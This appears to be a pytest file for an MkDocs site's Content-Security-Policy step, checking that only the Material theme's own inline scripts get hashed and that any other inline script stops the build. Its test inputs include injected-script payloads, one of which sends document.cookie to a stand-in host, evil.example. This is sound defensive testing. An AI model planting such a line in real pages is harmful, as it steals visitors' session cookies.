"""The policy's inline scripts come from an allow-list read from the theme's own templates (F1).

Hashing whatever scripts the output held let a script smuggled in through the partnership's
name run on every page. Now only a script written in the theme's script partials, with
nothing but a path where the template fills something in, is hashed; any other stops the build.
"""

from __future__ import annotations

from pathlib import Path

import material
import pytest

from levelofneed.mkdocs import csp

THEME = Path(material.__file__).parent / "templates"


@pytest.fixture(scope="module")
def allowed() -> csp.AllowList:
    return csp.allow_list([THEME])


def test_the_themes_own_scripts_are_allowed_at_any_depth(allowed: csp.AllowList) -> None:
    assert allowed.patterns
    template = (THEME / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
    for base in (".", "..", "../../..", "/", "/guidance/"):
        written = template.split("<script>", 1)[1].split("</script>", 1)[0]
        source = written.replace("{{ config.extra.scope | d(base_url) }}", base)
        assert allowed.allows(source), base


@pytest.mark.parametrize("source", [
    "window.__pwned=1",
    '__md_scope=new URL("..",location);fetch("https://evil.example/"+document.cookie)',
    '__md_scope=new URL(""+alert(1)+"",location),__md_hash=e=>0',
])
def test_any_other_inline_script_stops_the_build(allowed: csp.AllowList, source: str, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f'<html><head><meta charset="utf-8"></head><body><script>{source}</script>'
                                         "</body></html>", encoding="utf-8")
    before = (tmp_path / "index.html").read_bytes()
    with pytest.raises(csp.UnexpectedScriptError, match=r"index\.html: an inline script that is not the theme's own"):
        csp.add_to_site(tmp_path, allowed)
    assert (tmp_path / "index.html").read_bytes() == before


def test_data_blocks_are_not_scripts(allowed: csp.AllowList, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text('<meta charset="utf-8"><script id="__config" type="application/json">'
                                         '{"a": 1}</script>', encoding="utf-8")
    assert csp.add_to_site(tmp_path, allowed) == 1
    assert "Content-Security-Policy" in (tmp_path / "index.html").read_text(encoding="utf-8")
